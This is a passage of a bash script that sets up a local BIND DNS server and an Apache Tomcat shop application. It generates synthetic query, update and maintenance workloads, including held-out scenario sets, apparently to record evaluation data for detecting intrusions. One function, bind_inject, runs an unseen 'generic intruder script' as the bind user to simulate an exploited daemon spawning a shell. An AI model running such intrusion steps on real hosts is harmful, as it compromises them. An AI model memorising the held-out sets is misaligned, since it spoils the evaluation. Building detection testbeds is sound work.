  for p in "$NAMED_PORT" "$NAMED_RNDC_PORT"; do
    if ss -Hlnut "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  rm -rf "$NAMED_DIR"
  mkdir -p "$NAMED_CONF" "$NAMED_ZONES" "$NAMED_DYN" "$NAMED_DATA" "$NAMED_DIR"/{keys,run,log}
  chown bind:bind "$NAMED_DYN" "$NAMED_DATA" "$NAMED_DIR"/{keys,run,log}
  tsig-keygen -a hmac-sha256 dw-eval-rndc >"$NAMED_CONF/rndc.key"
  cat >"$NAMED_CONF/rndc.conf" <<CONF
include "$NAMED_CONF/rndc.key";
options { default-key "dw-eval-rndc"; default-server 127.0.0.1; default-port $NAMED_RNDC_PORT; };
CONF
  cat >"$NAMED_CONF/named.conf" <<CONF
options {
  directory "$NAMED_DATA";
  pid-file "$NAMED_DIR/run/named.pid";
  session-keyfile "$NAMED_DIR/run/session.key";
  managed-keys-directory "$NAMED_DIR/keys";
  statistics-file "$NAMED_DATA/named.stats";
  dump-file "$NAMED_DATA/named_dump.db";
  listen-on port $NAMED_PORT { 127.0.0.1; };
  listen-on-v6 { none; };
  recursion no;
  allow-transfer { 127.0.0.1; };
  allow-new-zones yes;
  dnssec-validation no;
  notify no;
  querylog no;
  version none;
};
include "$NAMED_CONF/rndc.key";
controls { inet 127.0.0.1 port $NAMED_RNDC_PORT allow { 127.0.0.1; } keys { "dw-eval-rndc"; }; };
logging {
  channel named_log { file "$NAMED_DIR/log/named.log" versions 3 size 2m; print-time yes; severity info; };
  channel query_log { file "$NAMED_DIR/log/query.log" versions 3 size 2m; print-time yes; };
  category default { named_log; };
  category queries { query_log; };
  category lame-servers { null; };
};
include "$NAMED_CONF/zones.conf";
CONF
  cat >"$NAMED_CONF/zones.conf" <<CONF
zone "example.test" { type primary; file "$NAMED_ZONES/example.test.zone"; };
zone "shop.test" { type primary; file "$NAMED_ZONES/shop.test.zone"; };
zone "1.0.10.in-addr.arpa" { type primary; file "$NAMED_ZONES/1.0.10.in-addr.arpa.zone"; };
zone "dyn.example.test" { type primary; file "$NAMED_DYN/dyn.example.test.zone"; allow-update { 127.0.0.1; }; };
CONF
  chown root:bind "$NAMED_CONF"/*
  chmod 644 "$NAMED_CONF"/named.conf "$NAMED_CONF"/zones.conf
  chmod 640 "$NAMED_CONF"/rndc.key
  chmod 600 "$NAMED_CONF"/rndc.conf
  local i
  {
    bind_zone_head example.test 2026120401
    printf '@ MX 10 mail\n@ MX 20 mail2\n@ TXT "v=spf1 mx -all"\n@ A 10.0.0.10\n@ AAAA fd00::10\n'
    printf '@ CAA 0 issue "ca.example.test"\n_dmarc TXT "v=DMARC1; p=reject"\n'
    printf 'www A 10.0.0.10\nwww AAAA fd00::10\nmail A 10.0.0.25\nmail2 A 10.0.0.26\n'
    printf 'api A 10.0.0.30\napi AAAA fd00::30\nftp CNAME www\nsip A 10.0.0.50\n'
    printf '_sip._tcp SRV 10 60 5060 sip\n'
    for i in $(seq 1 40); do printf 'host%02d A 10.0.1.%d\n' "$i" "$i"; done
  } >"$NAMED_ZONES/example.test.zone"
  {
    bind_zone_head shop.test 2026120401
    printf '@ MX 10 mail.example.test.\n@ A 10.0.2.1\nwww A 10.0.2.1\ncdn CNAME www\napi A 10.0.2.2\n'
    printf 'img A 10.0.2.3\nimg AAAA fd00::2:3\n'
    for i in $(seq 1 60); do printf 'item%d TXT "sku=%06d"\n' "$i" "$i"; done
    # A large answer: 30 strings of 200 bytes (over UDP truncated, fetched again over TCP).
    printf 'big TXT'
    for i in $(seq 1 30); do printf ' "%s"' "$(printf "k$i=%0196d" 0)"; done
    echo
  } >"$NAMED_ZONES/shop.test.zone"
  {
    bind_zone_head 1.0.10.in-addr.arpa 2026120401 example.test.
    for i in $(seq 1 40); do printf '%d PTR host%02d.example.test.\n' "$i" "$i"; done
  } >"$NAMED_ZONES/1.0.10.in-addr.arpa.zone"
  {
    bind_zone_head dyn.example.test 2026120401
    printf 'gw A 10.9.0.1\n'
  } >"$NAMED_DYN/dyn.example.test.zone"
  chmod 644 "$NAMED_ZONES"/*
  chown bind:bind "$NAMED_DYN"/*
  named-checkconf -z "$NAMED_CONF/named.conf" >/dev/null || die "named-checkconf failed"
  bind_dns_tool
}
# bind_zone_head ZONE SERIAL [NS_DOMAIN]: a zone file's TTL, SOA and NS records.
bind_zone_head() {
  local ns=${3:-$1.}
  printf '%s 300\n@ SOA ns1.%s hostmaster.%s %s 3600 600 86400 300\n@ NS ns1.%s\n' \
    "\$TTL" "$ns" "$ns" "$2" "$ns"
  [ -n "${3:-}" ] || printf 'ns1 A 127.0.0.1\n'
}

# The DNS clients, in python3 (outside the cgroup): reads lines "SRC Q [Q...]" from stdin and,
# JOBS lines at a time, sends each line's queries from 127.0.0.1's alias SRC, one after the
# other, over one UDP socket and (for Q ending in /tcp, or an answer truncated over UDP) one TCP
# connection. Q is NAME/TYPE[/tcp][/rd][/do]: an EDNS query (1232-byte buffer), recursion
# desired with /rd (a stub resolver's query; named refuses recursion), DNSSEC records asked for
# with /do (the DO bit). Answers are read and dropped.
bind_dns_tool() {
  cat >"$NAMED_DNS" <<'PY'
import concurrent.futures, random, socket, struct, sys

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "PTR": 12, "HINFO": 13, "MX": 15, "TXT": 16,
         "AAAA": 28, "SRV": 33, "DS": 43, "SSHFP": 44, "DNSKEY": 48, "TLSA": 52, "ANY": 255,
         "CAA": 257}

def packet(name, qtype, rd, do=False):
    head = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100 if rd else 0, 1, 0, 0, 1)
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"
    opt = b"\0" + struct.pack(">HHIH", 41, 1232, 0x8000 if do else 0, 0)
    return head + qname + struct.pack(">HH", TYPES[qtype], 1) + opt

def read_exact(s, n):
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise OSError("connection closed")
        data += chunk
    return data

def client(line):
    src, *queries = line.split()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((src, 0))
    udp.settimeout(2)
    tcp = None
    try:
        for q in queries:
            name, qtype, *how = q.split("/")
            p = packet(name, qtype, "rd" in how, "do" in how)
            if "tcp" not in how:
                udp.sendto(p, ("127.0.0.1", PORT))
                try:
                    answer = udp.recv(65535)
                except socket.timeout:
                    continue
                if not answer[2] & 0x02:   # not truncated
                    continue
            if tcp is None:
                tcp = socket.create_connection(("127.0.0.1", PORT), 5, source_address=(src, 0))
            tcp.sendall(struct.pack(">H", len(p)) + p)
            read_exact(tcp, struct.unpack(">H", read_exact(tcp, 2))[0])
    except OSError as e:
        print("bind-dns: %s: %s" % (src, e), file=sys.stderr)
    finally:
        udp.close()
        if tcp is not None:
            tcp.close()

PORT = int(sys.argv[1])
lines = [l for l in sys.stdin.read().splitlines() if l.strip()]
with concurrent.futures.ThreadPoolExecutor(int(sys.argv[2])) as pool:
    list(pool.map(client, lines))
PY
}

NAMED_PID=
# bind_ready: named answers for its zones (the dynamic one loads last).
bind_ready() { dig +short +time=1 +tries=1 -p "$NAMED_PORT" @127.0.0.1 dyn.example.test SOA | grep -q .; }
bind_start() {
  launch bind root /usr/sbin/named -f -u bind -c "$NAMED_CONF/named.conf"
  NAMED_PID=$LAUNCHED
  until_ok bind_ready
}
bind_stop() { stop_pid "$NAMED_PID" TERM; }
# bind_rndc ARGS...: the operator's `rndc ARGS` as root inside the cgroup (its own key and port).
bind_rndc() { admin bind root /usr/sbin/rndc -c "$NAMED_CONF/rndc.conf" "$@"; }
# bind_query JOBS: the clients' queries on stdin (lines for bind-dns.py), JOBS clients at a time.
bind_query() {
  python3 "$NAMED_DNS" "$NAMED_PORT" "$1" || echo "record-testdata: bind: the DNS clients failed" >&2
}
# bind_update [-v]: nsupdate's commands on stdin sent to the dynamic zone from 127.0.0.1 (with
# -v over TCP), as a DHCP server or a provisioning system does.
bind_update() {
  { printf 'local 127.0.0.1\nserver 127.0.0.1 %s\nzone dyn.example.test\n' "$NAMED_PORT"; cat; } |
    nsupdate "$@" >/dev/null 2>&1 || echo "record-testdata: bind: nsupdate failed" >&2
}
# bind_dig ARGS...: dig from 127.0.0.1 (a transfer, a secondary's or an operator's).
bind_dig() { dig -b 127.0.0.1 -p "$NAMED_PORT" @127.0.0.1 +noall +time=3 "$@" >/dev/null || true; }

# Mix A: three clients (127.0.0.2-4) with A, AAAA, MX, TXT, SOA and names that do not exist
# (NXDOMAIN), over UDP and TCP; two hosts of the dynamic zone updated (one added, one replaced,
# one removed); every third round a zone transfer (AXFR of example.test from 127.0.0.1).
BIND_ROUND=0
bind_mix_a() {
  local r=$((BIND_ROUND += 1)) host d=$((RANDOM % 8))
  host=$(printf %02d $((1 + RANDOM % 40)))
  bind_query 3 <<Q
127.0.0.2 www.example.test/A www.example.test/AAAA example.test/MX example.test/TXT example.test/SOA host$host.example.test/A nosuch$RANDOM.example.test/A mail.example.test/A
127.0.0.3 www.shop.test/A shop.test/MX api.example.test/AAAA example.test/SOA/tcp www.example.test/A/tcp dyn.example.test/SOA h$d.dyn.example.test/A gone$RANDOM.shop.test/AAAA
127.0.0.4 mail.example.test/A mail2.example.test/A example.test/TXT/tcp www.shop.test/AAAA api.example.test/A h$(((d + 1) % 8)).dyn.example.test/A
Q
  bind_update <<U
update delete h$d.dyn.example.test A
update add h$d.dyn.example.test 60 A 10.9.1.$((1 + RANDOM % 250))
update delete h$(((d + 3) % 8)).dyn.example.test A
send
U
  [ $((r % 3)) != 0 ] || bind_dig example.test AXFR
}
# Mix B: other names and types (PTR of the reverse zone, SRV, CNAME, NS, CAA, the shop's item
# TXT records), clients from 127.0.0.5-8 with recursion desired (stub resolvers, refused
# recursion for a name outside its zones); one client, then six at a time with twice as many
# queries each; TXT records of the dynamic zone updated over TCP (nsupdate -v).
bind_mix_b() {
  local i q
  for i in 1 2 3 4 5 6 7; do
    q="$((1 + (RANDOM + i) % 40)).1.0.10.in-addr.arpa/PTR _sip._tcp.example.test/SRV ftp.example.test/CNAME"
    q+=" example.test/NS example.test/CAA item$((1 + RANDOM % 60)).shop.test/TXT/rd cdn.shop.test/A/rd"
    q+=" img.shop.test/AAAA www.debian.org/A/rd _dmarc.example.test/TXT/tcp item$((1 + RANDOM % 60)).shop.test/TXT"
    if [ "$i" = 1 ]; then echo "127.0.0.5 $q" | bind_query 1; else echo "127.0.0.$((5 + i % 4)) $q $q"; fi
  done | bind_query 6
  bind_update -v <<U
update delete _acme-challenge.dyn.example.test TXT
update add _acme-challenge.dyn.example.test 30 TXT "token-$RANDOM"
update add svc$((RANDOM % 4)).dyn.example.test 120 CNAME gw.dyn.example.test.
send
U
}
# Its scheduled jobs in training: the monitoring (rndc status, rndc stats: data/named.stats)
# and a reload of the zones (rndc reload).
bind_maintenance() { bind_rndc status; bind_rndc stats; bind_rndc reload; }

# The generic intruder script as bind (an exploited named executing a shell) in its working
# directory.
bind_inject() { inject_shell bind bind "$NAMED_DATA"; }
bind_labels() { write_labels bind "$NAMED_DATA"; }

# Held out. A new zone goes live while named runs: corp.test written by the operator, checked
# inside the cgroup (named-checkzone, named-checkconf) and loaded by `rndc reconfig`; later a
# zone lab.test added at runtime (`rndc addzone`, kept by named in data/). Clients from
# 127.0.15.1-250, five at a time, ask for the new zones, other names and types, and the large
# TXT record over UDP (truncated, again over TCP) and TCP; many dynamic updates each round
# (the journal grows), an incremental transfer (IXFR of the last update, from the journal)
# every third round, and
# the query log toggled (rndc querylog) every fifth round. Every 20 s in turn: the shop's
# zone serial bumped with a new record (named-checkzone, `rndc reload shop.test`), the dynamic
# zone's journal written into its file (`rndc sync -clean`) and lab.test added; then the cache
# flushed (`rndc flush`), the database dumped (`rndc dumpdb -all`) and `rndc zonestatus`.
bind_heldout_deploy() {
  {
    bind_zone_head corp.test 2026120501
    printf 'vpn A 10.0.3.1\nintranet A 10.0.3.2\nwiki CNAME intranet\n@ MX 10 mail.example.test.\n'
  } >"$NAMED_ZONES/corp.test.zone"
  { bind_zone_head lab.test 2026120501; printf 'ci A 10.0.4.1\nbuild A 10.0.4.2\n'; } >"$NAMED_ZONES/lab.test.zone"
  chmod 644 "$NAMED_ZONES"/{corp,lab}.test.zone
  echo "zone \"corp.test\" { type primary; file \"$NAMED_ZONES/corp.test.zone\"; };" >>"$NAMED_CONF/zones.conf"
  admin bind root /usr/bin/named-checkzone corp.test "$NAMED_ZONES/corp.test.zone"
  admin bind root /usr/bin/named-checkconf "$NAMED_CONF/named.conf"
  bind_rndc reconfig
}
BIND_HELDOUT_ROUND=0
bind_heldout_mix() {
  local r=$((BIND_HELDOUT_ROUND += 1)) i a q n serial
  for i in 0 1 2 3 4; do
    a=127.0.15.$((1 + (r * 41 + i * 59) % 250))
    q="vpn.corp.test/A wiki.corp.test/A corp.test/MX ci.lab.test/A big.shop.test/TXT"
    q+=" host$(printf %02d $((1 + (r + i * 7) % 40))).example.test/AAAA www.example.test/A"
    q+=" u$(((r + i) % 30)).dyn.example.test/A missing$r.corp.test/A/tcp example.test/ANY/tcp"
    [ $(((r + i) % 2)) = 0 ] || q+=" big.shop.test/TXT/tcp promo$((r % 4)).shop.test/A"
    echo "$a $q"
  done | bind_query 5
  for n in 0 1 2 3; do
    for i in 0 1 2 3 4; do
      echo "update delete u$(((r * 5 + n * 7 + i) % 30)).dyn.example.test A"
      echo "update add u$(((r * 5 + n * 7 + i) % 30)).dyn.example.test 60 A 10.9.$n.$((1 + RANDOM % 250))"
    done
    echo send
  done | bind_update
  if [ $((r % 3)) = 0 ]; then
    serial=$(dig +short -p "$NAMED_PORT" @127.0.0.1 dyn.example.test SOA | awk '{ print $3 }')
    bind_dig dyn.example.test "IXFR=$((serial - 1))"
  fi
  [ $((r % 5)) != 0 ] || bind_rndc querylog
}
BIND_HELDOUT_JOBS=0
bind_heldout_job() {
  BIND_HELDOUT_JOBS=$((BIND_HELDOUT_JOBS + 1))
  if [ $((BIND_HELDOUT_JOBS % 2)) = 1 ]; then
    local z=$NAMED_ZONES/shop.test.zone
    sed -i "s/^\(@ SOA .*\) \([0-9]\{10\}\) /\1 $((2026120401 + BIND_HELDOUT_JOBS)) /" "$z"
    echo "promo$((BIND_HELDOUT_JOBS % 4)) A 10.0.2.$((10 + BIND_HELDOUT_JOBS))" >>"$z"
    admin bind root /usr/bin/named-checkzone shop.test "$z"
    bind_rndc reload shop.test
    bind_rndc sync -clean dyn.example.test
    if [ "$BIND_HELDOUT_JOBS" = 1 ]; then
      bind_rndc addzone lab.test "{ type primary; file \"$NAMED_ZONES/lab.test.zone\"; };"
    fi
  else
    bind_rndc flush
    bind_rndc dumpdb -all
    bind_rndc zonestatus dyn.example.test
  fi
}

# Held out, sixteenth set (heldout16). No deploy. Each round as many clients as the load from
# 127.0.16.1-250, two lines of queries each (in the quiet start one client, one line): hosts of example.test and the shop, mail and TXT records,
# the dynamic zone's leases; a DHCP server's lease update in the dynamic zone each round;
# once the zone is signed, its DNSKEY and signed answers (the DO bit). One more client in turn:
# a client that opens a new TCP connection for each of five queries, the same query replayed
# eight times (a stub that retries), internationalized names (punycode) and a name of three
# 63-byte labels, a burst of 25 names that do not exist (a search list gone wrong), types
# no set asked (HINFO, TLSA, SSHFP, DS), SOA and DNSKEY with the DO bit. The change, early:
# answers made minimal and response rate limiting turned on in named.conf's options,
# applied by `rndc reload` (named's graceful reload, as the unit's reload runs it). The second
# change, two thirds in: the dynamic zone signed by named (`dnssec-policy default`: named
# writes its keys and key states into data/ and signs the zone), by `rndc reconfig`. The
# maintenance, last, inside the cgroup as bind: the dynamic zone's journal printed
# (`named-journalprint`) and the zone with its journal exported into a new directory
# backup/ (`named-compilezone -j`), then `rndc dnssec -status`. Then a clean shutdown (TERM).
BIND_HELDOUT16_SIGNED=0
bind_heldout16_deploy() { BIND_HELDOUT16_SIGNED=0; }
bind_heldout16_mix() {
  local r=$HELDOUT16_ROUND i q a n=$HELDOUT16_CONC
  for ((i = 1; i <= n; i++)); do
    q="www.example.test/A host$(printf %02d $((1 + (r * 7 + i) % 40))).example.test/A example.test/MX"
    q+=" lease$(((r + i) % 20)).dyn.example.test/A item$((1 + (r + i * 3) % 60)).shop.test/TXT img.shop.test/AAAA"
    [ "$BIND_HELDOUT16_SIGNED" = 0 ] || q+=" dyn.example.test/DNSKEY/do gw.dyn.example.test/A/do"
    echo "$(heldout16_addr "$i") $q"
    [ "$n" = 1 ] || echo "$(heldout16_addr "$i") $q api.example.test/AAAA/tcp"
  done | bind_query "$n"
  bind_update <<U
update delete lease$((r % 20)).dyn.example.test A
update add lease$((r % 20)).dyn.example.test 300 A 10.9.16.$((1 + r % 250))
send
U
  a=$(heldout16_addr 6)
  case $((r % 6)) in
    0) for i in 1 2 3 4 5; do echo "$a www.example.test/A/tcp mail.example.test/A/tcp"; done | bind_query 1 ;;
    1) echo "$a$(printf ' www.shop.test/A%.0s' 1 2 3 4 5 6 7 8)" | bind_query 1 ;;
    2) q=$(printf "l%062d." 1 2 3)
       echo "$a xn--caf-dma.example.test/A xn--80ak6aa92e.shop.test/AAAA ${q}example.test/A" | bind_query 1 ;;
    3) echo "$a$(for i in $(seq 1 25); do printf ' www.example.test.corp%d.example.test/A' "$i"; done)" | bind_query 1 ;;
    4) echo "$a www.example.test/HINFO _443._tcp.www.example.test/TLSA mail.example.test/SSHFP shop.test/DS" | bind_query 1 ;;
    5) echo "$a example.test/SOA/do dyn.example.test/DNSKEY/do shop.test/SOA/do" | bind_query 1 ;;
  esac
}
bind_heldout16_change() {
  sed -i 's|^  version none;$|&\n  minimal-responses yes;\n  rate-limit { responses-per-second 200; window 5; };|' "$NAMED_CONF/named.conf"
  grep -q 'rate-limit' "$NAMED_CONF/named.conf" || die "bind heldout16: named.conf not changed"
  bind_rndc reload
}
bind_heldout16_second() {
  sed -i 's|allow-update { 127.0.0.1; }; };$|allow-update { 127.0.0.1; }; dnssec-policy default; };|' "$NAMED_CONF/zones.conf"
  grep -q 'dnssec-policy default' "$NAMED_CONF/zones.conf" || die "bind heldout16: zones.conf not changed"
  bind_rndc reconfig
  until_ok bind_heldout16_signed
  BIND_HELDOUT16_SIGNED=1
}
# bind_heldout16_signed: named answers the dynamic zone's DNSKEY.
bind_heldout16_signed() { dig +short -p "$NAMED_PORT" @127.0.0.1 dyn.example.test DNSKEY | grep -q .; }
bind_heldout16_maint() {
  install -d -o bind -g bind "$NAMED_DIR/backup"
  admin bind bind /usr/bin/named-journalprint "$NAMED_DYN/dyn.example.test.zone.jnl"
  admin bind bind /usr/bin/named-compilezone -q -j -o "$NAMED_DIR/backup/dyn.example.test.zone" \
    dyn.example.test "$NAMED_DYN/dyn.example.test.zone"
  bind_rndc dnssec -status dyn.example.test
}

# Held out, seventeenth set (heldout17). No deploy. A cold start under load: named starts
# inside the recording while clients already retry (heldout17_begin). Each round as many
# clients as the slow wave's load from 127.0.19.1-250, one line of queries each: hosts of
# example.test, the shop's items and images, mail and SRV records; once the office listener is
# in, the office zone's names through it; a DHCP server's lease update in the dynamic zone. One
# more client in turn: names in mixed case (as resolvers that randomise case send them), TCP
# queries sent and the connection closed without reading the answer, eight clients asking the
# same name at the same instant, queries with uncommon options (NSID, EDNS expire, client
# subnet, a 512-byte buffer, no recursion, CHAOS class), 30 queries over one kept-open TCP
# connection, an incremental zone transfer (IXFR) of the dynamic zone. The maintenance,
# early: the server's statistics written to its statistics file (`rndc stats`) and its status
# (`rndc status`). The change, in the middle, by a full restart (TERM, start): a second
# listener on 127.0.0.1:$NAMED_PORT2 and a new include file (conf/office.conf: an ACL and the
# zone office.test, which only it may query). The maintenance, late, while the load falls: the
# dynamic zone frozen (its journal written into the zone file, updates refused) and thawed
# again, as an operator does to edit it by hand. The recording ends with load still running.
NAMED_PORT2=15354
BIND_HELDOUT17_OFFICE=0
bind_heldout17_deploy() { BIND_HELDOUT17_OFFICE=0; heldout17_free_port "$NAMED_PORT2" -u; }
bind_heldout17_mix() {
  local r=$HELDOUT17_ROUND i q a n=$HELDOUT17_CONC
  for ((i = 1; i <= n; i++)); do
    q="host$(printf %02d $((1 + (r * 5 + i) % 40))).example.test/A item$((1 + (r * 3 + i) % 60)).shop.test/TXT"
    q+=" img.shop.test/A example.test/MX _sip._tcp.example.test/SRV"
    echo "$(heldout17_addr "$i") $q"
  done | bind_query "$n"
  if [ "$BIND_HELDOUT17_OFFICE" = 1 ]; then
    echo "$(heldout17_addr 5) printer.office.test/A wiki.office.test/A office.test/SOA" |
      python3 "$NAMED_DNS" "$NAMED_PORT2" 1 || true
  fi
  bind_update <<U
update delete lease$((r % 20)).dyn.example.test A
update add lease$((r % 20)).dyn.example.test 300 A 10.9.17.$((1 + r % 250))
send
U
  a=$(heldout17_addr 7)
  local dg=(dig -b "$a" -p "$NAMED_PORT" @127.0.0.1 +time=2 +tries=1)
  case $((r % 6)) in
    0) echo "$a WwW.ExAmPlE.TeSt/A hOsT07.EXAMPLE.test/A Mail.Example.Test/A ITEM3.Shop.Test/TXT" | bind_query 1 ;;
    1) for i in 1 2 3; do
         printf '\x00\x22\x12\x3%d\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x04test\x00\x00\x01\x00\x01' "$i" |
           socat -u - "TCP:127.0.0.1:$NAMED_PORT,bind=$a" 2>/dev/null || true
       done ;;
    2) for i in 1 2 3 4 5 6 7 8; do echo "$(heldout17_addr $((7 + i))) www.shop.test/A"; done | bind_query 8 ;;
    3) "${dg[@]}" +nsid +expire +subnet=10.1.0.0/16 +bufsize=512 +norecurse example.test SOA
       "${dg[@]}" -c CH hostname.bind TXT ;;
    4) mapfile -t q < <(for i in $(seq 1 30); do printf 'host%02d.example.test\n' "$(((i + r) % 40 + 1))"; done)
       "${dg[@]}" +tcp +keepopen "${q[@]}" ;;
    5) dig -b 127.0.0.1 -p "$NAMED_PORT" @127.0.0.1 +time=3 ixfr=2026120401 dyn.example.test ;;
  esac >/dev/null 2>&1 || true
}
bind_heldout17_early() { bind_rndc stats; bind_rndc status; }
bind_heldout17_change() {
  bind_stop
  {
    bind_zone_head office.test 2026120501
    printf 'printer A 10.0.3.10\nwiki A 10.0.3.11\nvpn A 10.0.3.1\n'
  } >"$NAMED_ZONES/office.test.zone"
  chmod 644 "$NAMED_ZONES/office.test.zone"
  cat >"$NAMED_CONF/office.conf" <<CONF
acl office { 127.0.19.0/24; 127.0.0.1; };
zone "office.test" { type primary; file "$NAMED_ZONES/office.test.zone"; allow-query { office; }; };
CONF
  chown root:bind "$NAMED_CONF/office.conf"
  chmod 644 "$NAMED_CONF/office.conf"
  sed -i -e "s|^  listen-on port $NAMED_PORT { 127.0.0.1; };\$|&\n  listen-on port $NAMED_PORT2 { 127.0.0.1; };|" \
    -e "s|^include \"$NAMED_CONF/zones.conf\";\$|&\ninclude \"$NAMED_CONF/office.conf\";|" "$NAMED_CONF/named.conf"
  if ! grep -q "office.conf" "$NAMED_CONF/named.conf" || ! grep -q "port $NAMED_PORT2" "$NAMED_CONF/named.conf"; then
    die "bind heldout17: named.conf not changed"
  fi
  named-checkconf -z "$NAMED_CONF/named.conf" >/dev/null || die "bind heldout17: named-checkconf failed"
  bind_start
  BIND_HELDOUT17_OFFICE=1
}
bind_heldout17_late() { bind_rndc freeze dyn.example.test; sleep 1; bind_rndc thaw dyn.example.test; }

# --- tomcat -------------------------------------------------------------------------------

TOMCAT_PORT=18380
TC_HOME=/usr/share/tomcat10
TC_JAVA=/usr/lib/jvm/java-17-openjdk-amd64
TC_DIR=$WORK/tomcat          # its CATALINA_BASE
TC_APPS=$TC_DIR/webapps
TC_SHOP=$TC_APPS/shop
TC_DATA=$TC_DIR/data         # the applications' data directory (owned by tomcat)
# catalina.sh's environment, as Debian's tomcat10.service sets it (a small heap: 2 cores).
TC_ENV=(/usr/bin/env "CATALINA_HOME=$TC_HOME" "CATALINA_BASE=$TC_DIR" "CATALINA_TMPDIR=$TC_DIR/temp"
        "JAVA_HOME=$TC_JAVA" "JAVA_OPTS=-Djava.awt.headless=true -Xms64m -Xmx256m -XX:+UseSerialGC")

# Apache Tomcat 10.1 (Debian tomcat10 on OpenJDK 17) as its own instance, not the system
# service: `catalina.sh run` as tomcat in dw-eval/tomcat, which runs the JVM
# (org.apache.catalina.startup.Bootstrap) in the foreground, with CATALINA_HOME
# /usr/share/tomcat10 and CATALINA_BASE $TC_DIR. Its conf/ is Debian's
# (/usr/share/tomcat10/etc) with server.xml edited: one HTTP connector on
# 127.0.0.1:$TOMCAT_PORT, no shutdown port, no AJP, and the AccessLogValve's daily file names
# with the minute added (logs/localhost_access_log.yyyy-MM-dd.HHmm.txt: tomcat rotates its
# access log every minute rather than every day, so a recording sees rotations). logs/,
# temp/ and work/ (JSPs compiled by Jasper on first request) belong to tomcat; webapps/
# too, so tomcat can unpack the WARs dropped there (autoDeploy). Two small applications,
# root-owned: ROOT (a home page, robots.txt, status.jsp) and shop (JSPs with a shared
# header fragment, static/ with pages, images, a stylesheet, a script and a 200 kB PDF,
# counter.jsp and guestbook.jsp, which read and write counter.txt and guestbook.txt in
# data/). No JSP of them keeps a session.
tomcat_provision() {
  # (Its port is its own: checked here rather than in main's list.)
  if ss -Hltn "sport = :$TOMCAT_PORT" | grep -q .; then die "port $TOMCAT_PORT is in use"; fi
  rm -rf "$TC_DIR"
  mkdir -p "$TC_DIR"/{conf/Catalina/localhost,logs,temp,work} "$TC_DATA" "$TC_APPS/ROOT" \
    "$TC_SHOP"/{WEB-INF/jspf,static/{css,js,img,pages,files}}
  cp "$TC_HOME"/etc/* "$TC_DIR/conf/"
  sed -i -e 's|<Server port="[^"]*"|<Server port="-1"|' \
    -e "s|<Connector port=\"8080\" protocol=\"HTTP/1.1\"|<Connector address=\"127.0.0.1\" port=\"$TOMCAT_PORT\" protocol=\"HTTP/1.1\"|" \
    -e 's|suffix=".txt"|suffix=".txt" fileDateFormat=".yyyy-MM-dd.HHmm"|' "$TC_DIR/conf/server.xml"
  if ! grep -q "address=\"127.0.0.1\" port=\"$TOMCAT_PORT\"" "$TC_DIR/conf/server.xml" ||
      ! grep -q 'fileDateFormat=' "$TC_DIR/conf/server.xml"; then die "tomcat: server.xml not as expected"; fi
  tomcat_apps
  chown -R root:tomcat "$TC_DIR/conf"
  chmod 640 "$TC_DIR"/conf/*.*
  chown tomcat:tomcat "$TC_DIR"/{logs,temp,work,conf/Catalina,conf/Catalina/localhost} "$TC_DATA" "$TC_APPS"
  chmod 750 "$TC_DIR"/{logs,temp,work}
}
# tomcat_web_xml NAME [CONTEXT_PARAMS]: an application's WEB-INF/web.xml (no annotations to
# scan), with the data directory as its context parameter data.dir.
tomcat_web_xml() {
  cat <<XML
<?xml version="1.0" encoding="UTF-8"?>
<web-app xmlns="https://jakarta.ee/xml/ns/jakartaee" version="6.0" metadata-complete="true">
  <display-name>$1</display-name>
  <context-param><param-name>data.dir</param-name><param-value>$TC_DATA</param-value></context-param>${2:-}
</web-app>
XML
}
tomcat_apps() {
  local i
  echo "<html><body>welcome</body></html>" >"$TC_APPS/ROOT/index.html"
  printf 'User-agent: *\nDisallow: /shop/guestbook.jsp\n' >"$TC_APPS/ROOT/robots.txt"
  head -c 1150 /dev/urandom >"$TC_APPS/ROOT/favicon.ico"
  cat >"$TC_APPS/ROOT/status.jsp" <<'JSP'
<%@ page session="false" contentType="application/json" %><%
  Runtime rt = Runtime.getRuntime();
%>{"ok": true, "free": <%= rt.freeMemory() %>, "total": <%= rt.totalMemory() %>, "threads": <%= Thread.activeCount() %>}
JSP
  tomcat_web_xml shop >"$TC_SHOP/WEB-INF/web.xml"
  cat >"$TC_SHOP/WEB-INF/jspf/header.jspf" <<'JSP'
<html><head><title>shop</title><link rel="stylesheet" href="/shop/static/css/site.css"></head><body>
<nav><a href="/shop/">home</a> <a href="/shop/guestbook.jsp">guestbook</a></nav>
JSP
  cat >"$TC_SHOP/index.jsp" <<'JSP'
<%@ page session="false" contentType="text/html; charset=UTF-8" %><%@ include file="/WEB-INF/jspf/header.jspf" %>
<ul><% for (int i = 1; i <= 12; i++) { %><li><a href="product.jsp?id=<%= i %>">product <%= i %></a></li><% } %></ul>
<p>served at <%= new java.util.Date() %></p><script src="/shop/static/js/app.js"></script></body></html>
JSP
  cat >"$TC_SHOP/product.jsp" <<'JSP'
<%@ page session="false" contentType="text/html; charset=UTF-8" %><%
  int id;
  try { id = Integer.parseInt(request.getParameter("id")); } catch (NumberFormatException e) { id = -1; }
  if (id < 1 || id > 100) { response.sendError(404); return; }
%><%@ include file="/WEB-INF/jspf/header.jspf" %>
<h1>product <%= id %></h1><p>price <%= id * 7 % 90 + 5 %>.00</p><img src="/shop/static/img/<%= 1 + id % 20 %>.png">
</body></html>
JSP
  cat >"$TC_SHOP/counter.jsp" <<'JSP'
<%@ page session="false" contentType="text/plain; charset=UTF-8" import="java.nio.file.*" %><%
  Path f = Paths.get(application.getInitParameter("data.dir"), "counter.txt");
  long n;
  synchronized (application) {
    n = Files.exists(f) ? Long.parseLong(Files.readString(f).trim()) + 1 : 1;
    Path tmp = Paths.get(f + ".tmp");
    Files.writeString(tmp, n + "\n");
    Files.move(tmp, f, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
  }
%>visits: <%= n %>
JSP
  cat >"$TC_SHOP/guestbook.jsp" <<'JSP'
<%@ page session="false" contentType="text/html; charset=UTF-8" import="java.nio.file.*,java.util.List" %><%
  Path f = Paths.get(application.getInitParameter("data.dir"), "guestbook.txt");
  if ("POST".equals(request.getMethod())) {
    request.setCharacterEncoding("UTF-8");
    String name = request.getParameter("name"), msg = request.getParameter("message");
